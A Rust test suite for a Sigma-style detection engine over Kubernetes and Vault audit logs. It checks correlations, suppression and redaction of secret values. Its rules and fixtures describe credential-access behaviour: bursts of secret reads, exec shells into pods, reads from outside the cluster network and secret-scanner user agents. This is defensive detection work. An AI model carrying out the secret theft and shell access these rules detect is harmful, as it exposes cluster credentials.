            "sel: {requestObject.spec.containers.image|startswith: busybox}\ncondition: sel",
            &events
        ),
        v(&["second-privileged"])
    );
    assert_eq!(
        k8s_hits(
            "sel: {annotations.authorization.k8s.io/decision: forbid}\ncondition: sel",
            &events
        ),
        v(&["forbidden"])
    );
}

// ---------------------------------------------------------------- correlations

const SECRET_READ: &str = r#"
title: Secret read
id: secret-read
name: secret_read
logsource: {product: kubernetes, service: audit}
detection:
    sel: {verb: get, objectRef.resource: secrets}
    condition: sel
"#;

const POD_EXEC: &str = r#"
title: Exec into pod
id: pod-exec
name: pod_exec
logsource: {product: kubernetes, service: audit}
detection:
    sel: {objectRef.resource: pods, objectRef.subresource: exec}
    condition: sel
"#;

fn read(id: &str, user: &str, hms: &str, name: &str) -> Value {
    k8s(
        id,
        json!({"user": {"username": user}, "requestReceivedTimestamp": at(hms),
               "objectRef": {"name": name}, "requestURI": format!("/api/v1/namespaces/default/secrets/{name}")}),
    )
}

fn exec(id: &str, user: &str, hms: &str) -> Value {
    k8s(
        id,
        json!({"verb": "create", "stage": "ResponseStarted", "responseStatus": {"code": 101},
               "user": {"username": user}, "requestReceivedTimestamp": at(hms),
               "objectRef": {"resource": "pods", "name": "web-1", "subresource": "exec"},
               "requestURI": "/api/v1/namespaces/default/pods/web-1/exec?command=sh&container=web&stdin=true&tty=true"}),
    )
}

fn with(parts: &[&str]) -> Arc<RuleSet> {
    compile(
        &parts
            .iter()
            .map(|p| dedent(p))
            .collect::<Vec<_>>()
            .join("\n---\n"),
    )
}

#[test]
fn event_count_with_group_by() {
    let rs = with(&[
        SECRET_READ,
        r#"
        title: Burst of secret reads
        id: burst
        correlation:
            type: event_count
            rules: [secret_read]
            group-by: [user.username]
            timespan: 1m
            condition: {gte: 3}
        level: high
        "#,
    ]);
    let batch = k8s_batch(&[
        read("a1", "alice", "12:00:00", "db"),
        read("b1", "bob", "12:00:01", "db"),
        read("a2", "alice", "12:00:20", "api"),
        read("b2", "bob", "12:02:00", "db"),
        read("a3", "alice", "12:00:50", "tls"),
        read("b3", "bob", "12:04:00", "db"),
    ]);
    let alerts = evaluate(&rs, &[batch]);
    // the input rule is consumed by the correlation: no standalone alerts
    assert!(ids(&alerts, "secret-read").is_empty());
    assert_eq!(ids(&alerts, "burst"), vec![v(&["a1", "a2", "a3"])]);
    let a = &alerts[0];
    assert_eq!(a.detector, "sigma_correlation");
    assert_eq!(a.actor.as_deref(), Some("alice"));
    let x = &a.explanation;
    assert_eq!(x["kind"], "correlation");
    assert_eq!(x["correlation"], "event_count");
    assert_eq!(x["group"], json!({"user.username": "alice"}));
    assert_eq!(x["observed"], json!(3.0));
    assert_eq!(x["condition"], json!({"gte": 3.0}));
    assert_eq!(x["timespan_seconds"], 60);
    assert_eq!(x["rules"], json!(["secret_read"]));
    assert!(a.window_start < a.window_end);
}

#[test]
fn value_count_counts_distinct_values() {
    let rs = with(&[
        SECRET_READ,
        r#"
        title: Many distinct secrets
        id: breadth
        correlation:
            type: value_count
            rules: [secret-read]
            group-by: [actor]
            timespan: 5m
            condition: {field: objectRef.name, gte: 3}
        "#,
    ]);
    let batch = k8s_batch(&[
        read("a1", "alice", "12:00:00", "db"),
        read("a2", "alice", "12:00:10", "db"),
        read("a3", "alice", "12:00:20", "db"),
        read("b1", "bob", "12:00:00", "db"),
        read("b2", "bob", "12:01:00", "api"),
        read("b3", "bob", "12:02:00", "tls"),
    ]);
    let alerts = evaluate(&rs, &[batch]);
    assert_eq!(ids(&alerts, "breadth"), vec![v(&["b1", "b2", "b3"])]);
    let x = &alerts[0].explanation;
    assert_eq!(x["observed"], json!(3.0));
    assert_eq!(x["distinct_values_sample"], json!(["api", "db", "tls"]));
}

const TEMPORAL: &str = r#"
title: Secret read then exec
id: read-exec
correlation:
    type: temporal
    rules: [secret_read, pod_exec]
    group-by: [actor]
    timespan: 5m
"#;

#[test]
fn temporal_needs_every_rule_within_the_timespan() {
    let rs = with(&[SECRET_READ, POD_EXEC, TEMPORAL]);
    let batch = k8s_batch(&[
        // alice: exec, then read 2 minutes later (temporal ignores order)
        exec("ae", "alice", "12:00:00"),
        read("ar", "alice", "12:02:00", "db"),
        // bob: read, exec 10 minutes later (outside)
        read("br", "bob", "12:00:00", "db"),
        exec("be", "bob", "12:10:00"),
        // carol reads, dave execs: different groups
        read("cr", "carol", "12:00:00", "db"),
        exec("de", "dave", "12:01:00"),
    ]);
    let alerts = evaluate(&rs, &[batch]);
    assert_eq!(ids(&alerts, "read-exec"), vec![v(&["ae", "ar"])]);
    assert_eq!(
        alerts.len(),
        1,
        "inputs do not alert on their own: {alerts:#?}"
    );
}

#[test]
fn temporal_ordered_respects_order_and_timespan() {
    let ordered = TEMPORAL
        .replace("type: temporal", "type: temporal_ordered")
        .replace("id: read-exec", "id: ordered");
    let rs = with(&[SECRET_READ, POD_EXEC, &ordered]);
    let batch = k8s_batch(&[
        read("ar", "alice", "12:00:00", "db"),
        exec("ae", "alice", "12:03:00"),
        // wrong order
        exec("be", "bob", "12:00:00"),
        read("br", "bob", "12:01:00", "db"),
        // right order, too far apart
        read("cr", "carol", "12:00:00", "db"),
        exec("ce", "carol", "12:06:00"),
    ]);
    let alerts = evaluate(&rs, &[batch]);
    assert_eq!(ids(&alerts, "ordered"), vec![v(&["ar", "ae"])]);
}

#[test]
fn temporal_ordered_uses_event_time_not_arrival_order() {
    // Rows may arrive out of time order (several apiservers, one topic). Dave's exec
    // happened before his read, even though the exec row arrives first: no alert.
    // Erin's read arrives after her exec but happened before it: alert.
    let ordered = TEMPORAL
        .replace("type: temporal", "type: temporal_ordered")
        .replace("id: read-exec", "id: ordered");
    let rs = with(&[SECRET_READ, POD_EXEC, &ordered]);
    let batch = k8s_batch(&[
        read("dr", "dave", "12:05:00", "db"),
        exec("de", "dave", "12:01:00"),
        exec("ee", "erin", "12:01:00"),
        read("er", "erin", "12:00:00", "db"),
    ]);
    let alerts = evaluate(&rs, &[batch]);
    assert_eq!(ids(&alerts, "ordered"), vec![v(&["er", "ee"])]);
    // and across batches: a later batch carrying an earlier step does not complete a chain
    let rs2 = with(&[SECRET_READ, POD_EXEC, &ordered]);
    let first = k8s_batch(&[read("fr", "frank", "12:05:00", "db")]);
    let second = k8s_batch(&[exec("fe", "frank", "12:01:00")]);
    assert!(ids(&evaluate(&rs2, &[first, second]), "ordered").is_empty());
}

#[test]
fn group_by_aliases_join_kubernetes_and_vault() {
    let rs = with(&[
        POD_EXEC,
        r#"
        title: Vault secret read by a Kubernetes service account
        id: vault-read
        name: vault_read
        logsource: {product: vault, service: audit}
        detection:
            sel: {request.operation: read, request.mount_type: kv}
            condition: sel
        "#,
        r#"
        title: Exec into a namespace, then its Vault secrets read
        id: exec-then-vault
        correlation:
            type: temporal
            rules: [pod_exec, vault_read]
            group-by: [ns]
            timespan: 10m
            aliases:
                ns:
                    pod_exec: objectRef.namespace
                    vault_read: auth.metadata.service_account_namespace
        "#,
    ]);
    let mut e = exec("exec-pay", "mallory", "12:00:00");
    e["objectRef"]["namespace"] = json!("payments");
    let other = exec("exec-web", "mallory", "12:00:00");
    let batch = concat(&[
        k8s_batch(&[e, other]),
        vault_batch(&[vault("vr-1", json!({"time": at("12:04:00")}))]),
    ]);
    let alerts = evaluate(&rs, &[batch]);
    assert_eq!(
        ids(&alerts, "exec-then-vault"),
        vec![v(&["exec-pay", "vr-1"])]
    );
    assert_eq!(alerts[0].explanation["group"], json!({"ns": "payments"}));
}

#[test]
fn correlations_chain_and_generate() {
    let burst = r#"
        title: Burst of secret reads
        id: burst
        name: burst
        correlation:
            type: event_count
            rules: [secret_read]
            group-by: [actor]
            timespan: 1m
            condition: {gte: 3}
        "#;
    let chained = r#"
        title: Burst then exec
        id: burst-exec
        correlation:
            type: temporal_ordered
            rules: [burst, pod_exec]
            group-by: [actor]
            timespan: 10m
        "#;
    let events = [
        read("a1", "alice", "12:00:00", "a"),
        read("a2", "alice", "12:00:10", "b"),
        read("a3", "alice", "12:00:20", "c"),
        exec("ae", "alice", "12:05:00"),
        exec("be", "bob", "12:05:00"),
    ];
    let rs = with(&[SECRET_READ, POD_EXEC, burst, chained]);
    let alerts = evaluate(&rs, &[k8s_batch(&events)]);
    let rules: Vec<&str> = alerts.iter().map(|a| a.rule_id.as_str()).collect();
    // burst feeds burst-exec and does not alert itself; pod_exec neither
    assert_eq!(rules, vec!["burst-exec"], "{alerts:#?}");
    assert_eq!(alerts[0].event_ids, v(&["a1", "a2", "a3", "ae"]));

    // generate: true keeps the inputs' own alerts
    let gen_burst = burst.replace(
        "condition: {gte: 3}",
        "condition: {gte: 3}\n            generate: true",
    );
    let rs = with(&[SECRET_READ, POD_EXEC, &gen_burst, chained]);
    let alerts = evaluate(&rs, &[k8s_batch(&events)]);
    let mut rules: Vec<&str> = alerts.iter().map(|a| a.rule_id.as_str()).collect();
    rules.sort();
    assert_eq!(
        rules,
        vec!["burst-exec", "secret-read", "secret-read", "secret-read"],
        "generate on burst keeps secret-read standalone, burst itself still feeds burst-exec"
    );
}

#[test]
fn suppression_by_fields_within_window() {
    let rs = compile(
        r#"
        title: Secret read
        id: sr
        logsource: {product: kubernetes, service: audit}
        detection:
            sel: {verb: get, objectRef.resource: secrets}
            condition: sel
        suppression:
            by: [actor]
            window: 10m
        "#,
    );
    let batch1 = k8s_batch(&[
        read("a1", "alice", "12:00:00", "db"),
        read("a2", "alice", "12:01:00", "db"),
        read("b1", "bob", "12:02:00", "db"),
        read("a3", "alice", "12:09:59", "db"),
    ]);
    let batch2 = k8s_batch(&[
        read("a4", "alice", "12:10:01", "db"),
        read("b2", "bob", "12:03:00", "db"),
    ]);
    let mut e = Engine::new(rs.clone());
    let mut alerts = e.evaluate(&batch1);
    alerts.extend(e.evaluate(&batch2));
    let got: Vec<String> = alerts.iter().map(|a| a.event_ids[0].clone()).collect();
    assert_eq!(got, v(&["a1", "b1", "a4"]));
    assert_eq!(e.suppressed, 3);
}

#[test]
fn alert_ids_are_deterministic() {
    let rs = with(&[
        SECRET_READ,
        POD_EXEC,
        TEMPORAL,
        r#"
        title: Exec alone
        id: exec-alone
        logsource: {product: kubernetes, service: audit}
        detection:
            sel: {objectRef.subresource: exec}
            condition: sel
        "#,
    ]);
    let events = [
        read("ar", "alice", "12:00:00", "db"),
        exec("ae", "alice", "12:01:00"),
        exec("be", "bob", "12:01:00"),
    ];
    let run = || {
        let mut ids: Vec<(String, String)> = evaluate(&rs, &[k8s_batch(&events)])
            .into_iter()
            .map(|a| (a.rule_id, a.id))
            .collect();
        ids.sort();
        ids
    };
    let first = run();
    assert_eq!(first.len(), 3, "{first:?}");
    assert_eq!(first, run());
    let distinct: std::collections::HashSet<_> = first.iter().map(|(_, id)| id).collect();
    assert_eq!(distinct.len(), 3);
}

#[test]
fn set_rules_keeps_windows_of_unchanged_correlations() {
    let burst = |id: &str| {
        format!(
            "title: burst\nid: {id}\ncorrelation:\n    type: event_count\n    rules: [secret_read]\n    group-by: [actor]\n    timespan: 5m\n    condition: {{gte: 3}}\n"
        )
    };
    let extra = r#"
        title: Deployment deleted
        id: deploy-del
        logsource: {product: kubernetes, service: audit}
        detection:
            sel: {verb: delete, objectRef.resource: deployments}
            condition: sel
        "#;
    let b1 = k8s_batch(&[
        read("a1", "alice", "12:00:00", "a"),
        read("a2", "alice", "12:00:10", "b"),
    ]);
    let b2 = k8s_batch(&[read("a3", "alice", "12:00:20", "c")]);

    // same id: the two earlier reads survive the reload
    let mut e = Engine::new(with(&[SECRET_READ, &burst("burst")]));
    assert!(e.evaluate(&b1).is_empty());
    assert_eq!(e.open_groups(), 1);
    e.set_rules(with(&[SECRET_READ, &burst("burst"), extra]));
    let alerts = e.evaluate(&b2);
    assert_eq!(ids(&alerts, "burst"), vec![v(&["a1", "a2", "a3"])]);

    // a new id starts empty
    let mut e = Engine::new(with(&[SECRET_READ, &burst("burst")]));
    assert!(e.evaluate(&b1).is_empty());
    e.set_rules(with(&[SECRET_READ, &burst("burst-v2")]));
    assert!(e.evaluate(&b2).is_empty());
}

#[test]
fn rule_alerts_explain_themselves() {
    let rs = compile(
        r#"
        title: Secret read from outside the cluster network
        id: outside-read
        description: A secret read from an address outside 10.0.0.0/8
        level: high
        tags: [attack.credential_access]
        falsepositives: [VPN users]
        logsource: {product: kubernetes, service: audit}
        detection:
            sel:
                verb: get
                objectRef.resource: secrets
            net:
                src_ip|cidr: 10.0.0.0/8
            condition: sel and not net
        "#,
    );
    let batch = k8s_batch(&[
        k8s("inside", json!({})),
        k8s("outside", json!({"sourceIPs": ["198.51.100.23"]})),
    ]);
    let alerts = evaluate(&rs, &[batch]);
    assert_eq!(alerts.len(), 1);
    let a = &alerts[0];
    assert_eq!(a.event_ids, v(&["outside"]));
    assert_eq!(a.actor.as_deref(), Some("alice@example.com"));
    assert_eq!(a.source.as_deref(), Some("kubernetes"));
    assert_eq!(a.resources, v(&["namespaces/default/secrets/db"]));
    assert_eq!(a.detector, "sigma");
    assert_eq!(a.tags, v(&["attack.credential_access"]));
    let x = &a.explanation;
    assert_eq!(x["kind"], "rule_match");
    assert_eq!(x["rule"]["id"], "outside-read");
    assert_eq!(x["rule"]["level"], "high");
    assert_eq!(x["rule"]["falsepositives"], json!(["VPN users"]));
    assert_eq!(x["observed"]["verb"], "get");
    assert_eq!(x["observed"]["objectRef.resource"], "secrets");
    assert_eq!(x["observed"]["src_ip"], "198.51.100.23");
    let text = serde_json::to_string(a).unwrap();
    assert!(text.contains("\"time\":\"2026-01-10T12:00:00"), "{text}");
}

#[test]
fn alerts_never_carry_secret_values() {
    const CANARY: &str = "CANARYd3t3ct5ecretV4lue";
    let b64 = base64::engine::general_purpose::STANDARD.encode(CANARY);
    let secret = json!({"kind": "Secret", "apiVersion": "v1",
        "metadata": {"name": "db", "namespace": "default"},
        "type": "Opaque", "data": {"password": b64}, "stringData": {"token": CANARY}});
    let events = [
        k8s(
            "create",
            json!({"level": "RequestResponse", "verb": "create", "responseStatus": {"code": 201},
                   "objectRef": {"name": "db"}, "requestURI": "/api/v1/namespaces/default/secrets",
                   "requestObject": secret, "responseObject": secret}),
        ),
        k8s(
            "get",
            json!({"level": "RequestResponse", "responseObject": secret}),
        ),
    ];
    let rs = compile(&format!(
        r#"
        title: Secret written with data
        id: secret-data
        logsource: {{product: kubernetes, service: audit}}
        detection:
            sel:
                objectRef.resource: secrets
                requestObject.data.password|exists: true
                requestObject.stringData.token: '*'
            condition: sel
        ---
        title: Secret body seen
        id: secret-body
        logsource: {{product: kubernetes, service: audit}}
        detection:
            sel:
                responseObject.data.password: '*'
                responseObject.kind: Secret
            condition: sel
        ---
        title: The canary itself, which never matches because rules see redacted events
        id: canary-keyword
        logsource: {{product: kubernetes, service: audit}}
        detection:
            keywords: ['{CANARY}', '{b64}']
            condition: keywords
        ---
        title: The canary in a field
        id: canary-field
        logsource: {{product: kubernetes, service: audit}}
        detection:
            sel:
                - requestObject.stringData.token|contains: '{CANARY}'
                - responseObject.data.password: '{b64}'
            condition: sel
        "#
    ));
    let alerts = evaluate(&rs, &[k8s_batch(&events)]);
    let fired: Vec<&str> = alerts.iter().map(|a| a.rule_id.as_str()).collect();
    assert_eq!(fired, vec!["secret-data", "secret-body", "secret-body"]);
    for a in &alerts {
        let text = serde_json::to_string(a).unwrap();
        assert!(!text.contains(CANARY) && !text.contains(&b64), "{text}");
        assert!(
            text.contains("[REDACTED]"),
            "observed shows the redacted value: {text}"
        );
    }
}

// ---------------------------------------------------------------- rules check

/// Loads rule files written to a temp dir; returns the rule set and each file's path.
fn load_files(files: &[(&str, &str)]) -> (RuleSet, tempfile::TempDir) {
    let dir = tempfile::tempdir().unwrap();
    for (name, text) in files {
        std::fs::write(dir.path().join(name), dedent(text)).unwrap();
    }
    let rs = RuleSet::load(&[dir.path().to_path_buf()], &FieldMap::builtin());
    (rs, dir)
}

fn find<'a>(rs: &'a RuleSet, file: &str, needle: &str) -> &'a Diagnostic {
    rs.diagnostics
        .iter()
        .find(|d| d.file.ends_with(file) && d.message.contains(needle))
        .unwrap_or_else(|| panic!("no diagnostic `{needle}` in {file}: {:#?}", rs.diagnostics))
}

#[test]
fn rules_check_reports_file_and_line() {
    let (rs, dir) = load_files(&[
        (
            "syntax.yml",
            "title: broken\nlogsource: {product: kubernetes}\ndetection:\n  sel: {verb: [get, list}\n  condition: sel\n",
        ),
        (
            "modifier.yml",
            "title: m\nid: m\nlogsource: {product: kubernetes}\ndetection:\n  sel:\n    verb: get\n    requestURI|windash: '-x'\n  condition: sel\n",
        ),
        (
            "undefined.yml",
            "title: u\nid: u\nlogsource: {product: kubernetes}\ndetection:\n  sel: {verb: get}\n  condition: sel and not filter_main\n",
        ),
        (
            "regex.yml",
            "title: re\nid: re\nlogsource: {product: kubernetes}\ndetection:\n  sel:\n    requestURI|re: '(unclosed'\n  condition: sel\n",
        ),
        (
            "cidr.yml",
            "title: c\nid: c\nlogsource: {product: kubernetes}\ndetection:\n  sel:\n    verb: get\n    src_ip|cidr: 10.0.0.0/33\n  condition: sel\n",
        ),
        (
            "types.yml",
            "title: t\nid: t\nlogsource: {product: kubernetes}\ndetection:\n  sel:\n    verb: get\n    responseStatus.code: 'ALLOW'\n  condition: sel\n",
        ),
        (
            "unknown.yml",
            "title: w\nid: w\nlogsource: {product: kubernetes}\ndetection:\n  sel:\n    verb: get\n    CommandLine|contains: whoami\n  condition: sel\n",
        ),
        (
            "dup_a.yml",
            "title: a\nid: same-id\nlogsource: {product: kubernetes}\ndetection:\n  sel: {verb: get}\n  condition: sel\n",
        ),
        (
            "dup_b.yml",
            "title: b\nid: same-id\nlogsource: {product: kubernetes}\ndetection:\n  sel: {verb: list}\n  condition: sel\n",
        ),
        (
            "corr.yml",
            "title: c\nid: corr\ncorrelation:\n  type: event_count\n  rules: [no_such_rule]\n  group-by: [actor]\n  timespan: 5m\n  condition: {gte: 3}\n",
        ),
    ]);
    let shown = |d: &Diagnostic| d.to_string();
    let d = find(&rs, "syntax.yml", "YAML syntax error");
    assert_eq!(
        (d.severity, d.line),
        (DiagSeverity::Error, 4),
        "{}",
        shown(d)
    );
    let d = find(&rs, "modifier.yml", "windash");
    assert_eq!(
        (d.severity, d.line),
        (DiagSeverity::Error, 7),
        "{}",
        shown(d)
    );
    let d = find(&rs, "undefined.yml", "filter_main");
    assert_eq!(
        (d.severity, d.line),
        (DiagSeverity::Error, 6),
        "{}",
        shown(d)
    );
    let d = find(&rs, "regex.yml", "regular expression");
    assert_eq!(
        (d.severity, d.line),
        (DiagSeverity::Error, 6),
        "{}",
        shown(d)
    );
    let d = find(&rs, "cidr.yml", "CIDR");
    assert_eq!(
        (d.severity, d.line),
        (DiagSeverity::Error, 7),
        "{}",
        shown(d)
    );
    let d = find(&rs, "types.yml", "integer");
    assert_eq!(
        (d.severity, d.line),
        (DiagSeverity::Error, 7),
        "{}",
        shown(d)
    );
    let d = find(&rs, "unknown.yml", "CommandLine");
    assert_eq!(
        (d.severity, d.line),
        (DiagSeverity::Warning, 7),
        "{}",
        shown(d)
    );
    let d = find(&rs, "dup_b.yml", "duplicate id `same-id`");
    assert_eq!(d.severity, DiagSeverity::Error);
    assert!(d.message.contains("dup_a.yml:1"), "{}", shown(d));
    let d = find(&rs, "corr.yml", "no_such_rule");
    assert_eq!(
        (d.severity, d.line),
        (DiagSeverity::Error, 1),
        "{}",
        shown(d)
    );

    // `file:line: severity: message`
    let path = dir.path().join("regex.yml");
    let text = find(&rs, "regex.yml", "regular expression").to_string();
    assert!(
        text.starts_with(&format!("{}:6: error: ", path.display())),
        "{text}"
    );

    // what loads: the type clash and unknown field keep their rules (they report, the rule
    // runs); broken documents are dropped
    let loaded: Vec<&str> = rs.rules.iter().map(|r| r.meta.id.as_str()).collect();
    for id in ["t", "w", "u"] {
        assert_eq!(loaded.contains(&id), id != "u", "{id}: {loaded:?}");
    }
    assert!(!loaded.contains(&"m") && !loaded.contains(&"re") && !loaded.contains(&"c"));
    assert!(rs.correlations.is_empty());
    // syntax, undefined (parse) + modifier, regex, cidr (compile) + the correlation
    assert_eq!(rs.dropped, 6);
    let files: Vec<PathBuf> = rs.files.clone();
    assert_eq!(files.len(), 10);
}

#[test]
fn the_type_clash_rule_never_matches() {
    let rs = compile_at(
        "t.yml",
        "title: t\nid: t\nlogsource: {product: kubernetes}\ndetection:\n  sel:\n    responseStatus.code: 'ALLOW'\n  condition: sel\n",
    );
    let rs = Arc::new(rs);
    let batch = k8s_batch(&[k8s("x", json!({}))]);
    assert!(matched(&rs, &batch, "t").is_empty());
}

#[test]
fn a_filters_rules_list_is_not_a_search_identifier() {
    // `rules:` used to be compiled as a keyword selection, so `all of them` required the
    // raw event to contain the rule id and the filter never filtered anything.
    let rs = compile(
        r#"
        title: Secret deleted
        id: secret-deleted
        logsource: {product: kubernetes, service: audit}
        detection:
            sel: {verb: delete, objectRef.resource: secrets}
            condition: sel
        ---
        title: Backup job
        id: f-backup
        logsource: {product: kubernetes, service: audit}
        filter:
            rules: [secret-deleted]
            velero: {user.username: 'system:serviceaccount:backup:velero'}
            delete: {verb: delete}
            condition: all of them
        "#,
    );
    let batch = k8s_batch(&[
        k8s("alice", json!({"verb": "delete"})),
        k8s(
            "velero",
            json!({"verb": "delete", "user": {"username": "system:serviceaccount:backup:velero"}}),
        ),
    ]);
    assert_eq!(matched(&rs, &batch, "secret-deleted"), v(&["alice"]));
}

#[test]
fn a_chained_correlation_must_group_by_what_its_input_provides() {
    let rs = compile_at(
        "chain.yml",
        &[
            SECRET_READ,
            POD_EXEC,
            "title: burst\nid: burst\ncorrelation:\n    type: event_count\n    rules: [secret_read]\n    group-by: [actor]\n    timespan: 1m\n    condition: {gte: 3}\n",
            "title: chained\nid: chained\ncorrelation:\n    type: temporal\n    rules: [burst, pod_exec]\n    group-by: [actor, resource_namespace]\n    timespan: 10m\n",
        ]
        .join("\n---\n"),
    );
    let d = rs
        .errors()
        .find(|d| d.message.contains("resource_namespace"))
        .unwrap_or_else(|| panic!("{:#?}", rs.diagnostics));
    assert!(d.message.contains("`burst`"), "{d}");
}

#[test]
fn suppressed_matches_still_feed_correlations() {
    // A rule with suppression that also feeds a correlation (`generate: true`): the
    // suppressed matches used to be dropped before reaching the correlation.
    let rs = compile(
        r#"
        title: Secret read
        id: sr
        name: secret_read
        logsource: {product: kubernetes, service: audit}
        detection:
            sel: {verb: get, objectRef.resource: secrets}
            condition: sel
        suppression: {by: [actor], window: 10m}
        ---
        title: Burst
        id: burst
        correlation:
            type: event_count
            rules: [secret_read]
            group-by: [actor]
            timespan: 5m
            condition: {gte: 3}
            generate: true
        "#,
    );
    let alerts = evaluate(
        &rs,
        &[k8s_batch(&[
            read("a1", "alice", "12:00:00", "a"),
            read("a2", "alice", "12:00:10", "b"),
            read("a3", "alice", "12:00:20", "c"),
        ])],
    );
    assert_eq!(ids(&alerts, "sr"), vec![v(&["a1"])]);
    assert_eq!(ids(&alerts, "burst"), vec![v(&["a1", "a2", "a3"])]);
}

#[test]
fn grouped_wildcards_agree_with_leaf_by_leaf_evaluation() {
    // Eight or more wildcard/regex leaves on one column are matched together by one
    // RegexSet pass per row; the result must be the same as matching each leaf alone.
    let agents = [
        "kubectl/v1.29.2 (linux/amd64) kubernetes/4b8e819",
        "KUBECTL/v1.30.0 (darwin/arm64)",
        "curl/8.5.0",
        "python-requests/2.32.3",
        "Go-http-client/2.0",
        "scanner*bot/1.0 50%_off",
        "trufflehog/3.63.2 ünïcode",
        "argocd-application-controller/v0.0.0 (linux/amd64) kubernetes/$Format",
        "",
    ];
    let mut events = Vec::new();
    for (i, ua) in agents.iter().enumerate() {
        for (j, user) in [
            "alice@example.com",
            "system:serviceaccount:ci:deployer",
            "Bob@Example.com",
        ]
        .iter()
        .enumerate()
        {
            events.push(k8s(
                &format!("e{i}-{j}"),
                json!({"userAgent": ua, "user": {"username": user},
                       "requestURI": format!("/api/v1/namespaces/team-{i}/pods/web-{j}/exec?command=sh")}),
            ));
        }
    }
    let patterns = [
        "userAgent|contains: kubectl",
        "userAgent|startswith: 'kubectl/'",
        "userAgent|cased|startswith: 'KUBECTL/'",
        "userAgent|endswith: '(linux/amd64)'",
        "userAgent: 'curl/?.?.?'",
        "userAgent: '*requests*'",
        "userAgent|contains: 'scanner\\*bot'",
        "userAgent|contains: '50%_off'",
        "userAgent|contains: 'ÜNÏCODE'",
        "userAgent|re: '^Go-http-client/[0-9.]+$'",
        "userAgent|re|i: 'TRUFFLEHOG'",
        "userAgent|contains: '$format'",
        "user.username|endswith: '@example.com'",
        "user.username|cased|endswith: '@Example.com'",
        "user.username|startswith: 'system:serviceaccount:'",
        "user.username: 'bob@*'",
        "user.username|contains: ':ci:'",
        "user.username|re: '^[a-z]+@'",
        "user.username: '?lice@example.com'",
        "user.username|contains: 'deploy'",
        "requestURI|re: '/namespaces/team-[0-3]/pods/[^/]+/exec'",
    ];
    let text: Vec<String> = patterns
        .iter()
        .enumerate()
        .map(|(i, p)| {
            format!(
                "title: p{i}\nid: p{i}\nlogsource: {{product: kubernetes, service: audit}}\ndetection:\n    sel:\n        {p}\n    condition: sel\n"
            )
        })
        .collect();
    let grouped = compile(&text.join("---\n"));
    assert!(
        grouped.groups.groups.len() >= 2,
        "user_agent and user.username are grouped: {:?}",
        grouped
            .groups
            .groups
            .iter()
            .map(|g| &g.field)
            .collect::<Vec<_>>()
    );
    let mut alone = compile_at("t.yml", &text.join("---\n"));
    alone.groups = Default::default();
    let alone = Arc::new(alone);
    let batch = k8s_batch(&events);
    let a = Engine::new(grouped.clone()).matches(&batch);
    let b = Engine::new(alone).matches(&batch);
    let mut total = 0;
    for (i, p) in patterns.iter().enumerate() {
        assert_eq!(a[i], b[i], "{p}");
        total += a[i].count_set_bits();
    }
    assert!(total > 20, "the patterns match something: {total}");
    // and a few spot checks
    assert_eq!(
        matched(&grouped, &batch, "p2"),
        v(&["e1-0", "e1-1", "e1-2"])
    );
    assert_eq!(matched(&grouped, &batch, "p8").len(), 3);
}

#[test]
fn aliases_may_name_rules_by_id_and_must_cover_every_rule() {
    // `rules` references by name, `aliases` by id: the alias used to be ignored, so the
    // group-by fell back to a field named `ns` that no event has, and nothing correlated.
    let corr = |aliases: &str| {
        format!(
            "title: c\nid: c\ncorrelation:\n    type: temporal\n    rules: [secret_read, pod_exec]\n    group-by: [ns]\n    timespan: 10m\n    aliases:\n        ns:\n{aliases}"
        )
    };
    let by_id = corr(
        "            secret-read: objectRef.namespace\n            pod-exec: objectRef.namespace\n",
    );
    let rs = with(&[SECRET_READ, POD_EXEC, &by_id]);
    let mut r = read("r1", "alice", "12:00:00", "db");
    let mut e = exec("e1", "bob", "12:01:00");
    r["objectRef"]["namespace"] = json!("payments");
    e["objectRef"]["namespace"] = json!("payments");
    let alerts = evaluate(&rs, &[k8s_batch(&[r, e])]);
    assert_eq!(ids(&alerts, "c"), vec![v(&["r1", "e1"])]);
    assert_eq!(alerts[0].explanation["group"], json!({"ns": "payments"}));

    // an alias that leaves a rule out is an error with the correlation's file and line
    let partial = corr("            secret_read: objectRef.namespace\n");
    let rs = compile_at(
        "c.yml",
        &[SECRET_READ, POD_EXEC, partial.as_str()]
            .map(dedent)
            .join("\n---\n"),
    );
    let d = rs
        .errors()
        .find(|d| d.message.contains("alias `ns`"))
        .unwrap_or_else(|| panic!("{:#?}", rs.diagnostics));
    assert!(d.message.contains("pod_exec"), "{d}");
}

#[test]
fn value_count_forgets_values_that_leave_the_window() {
    let rs = with(&[
        SECRET_READ,
        r#"
        title: Many distinct secrets
        id: breadth
        correlation:
            type: value_count
            rules: [secret-read]
            group-by: [actor]
            timespan: 5m
            condition: {field: objectRef.name, gte: 3}
        "#,
    ]);
    let alerts = evaluate(
        &rs,
        &[
            k8s_batch(&[
                read("b1", "bob", "12:00:00", "db"),
                read("b2", "bob", "12:03:00", "api"),
                read("b3", "bob", "12:03:30", "api"),
            ]),
            // db (12:00) has left the 5-minute window: api, tls = 2 distinct
            k8s_batch(&[read("b4", "bob", "12:06:00", "tls")]),
            k8s_batch(&[read("b5", "bob", "12:07:00", "ca")]),
        ],
    );
    assert_eq!(ids(&alerts, "breadth"), vec![v(&["b2", "b3", "b4", "b5"])]);
    assert_eq!(
        alerts[0].explanation["distinct_values_sample"],
        json!(["api", "ca", "tls"])
    );
}

#[test]
fn many_equalities_on_a_list_column_use_its_value_index() {
    // nine or more equality leaves on `policies` go through a value → rows index
    let events: Vec<Value> = (0..12)
        .map(|k| {
            vault(
                &format!("v{k}"),
                json!({"auth": {"policies": ["default", format!("Team-{k}-Read"), format!("team-{}-read", k / 2)]}}),
            )
        })
        .collect();
    let text: Vec<String> = (0..10)
        .map(|k| {
            format!(
                "title: p{k}\nid: p{k}\nlogsource: {{product: vault, service: audit}}\ndetection:\n    sel:\n        auth.policies: 'team-{k}-read'\n    condition: sel\n"
            )
        })
        .collect();
    let rs = compile(&text.join("---\n"));
    let batch = vault_batch(&events);
    // team-3-read: v3 (Team-3-Read, case-insensitive) and v6, v7 (team-3-read)
    assert_eq!(matched(&rs, &batch, "p3"), v(&["v3", "v6", "v7"]));
    // team-0-read: v0 has it twice (Team-0-Read and team-0-read): one match
    assert_eq!(matched(&rs, &batch, "p0"), v(&["v0", "v1"]));
    assert_eq!(matched(&rs, &batch, "p9"), v(&["v9"]));
}
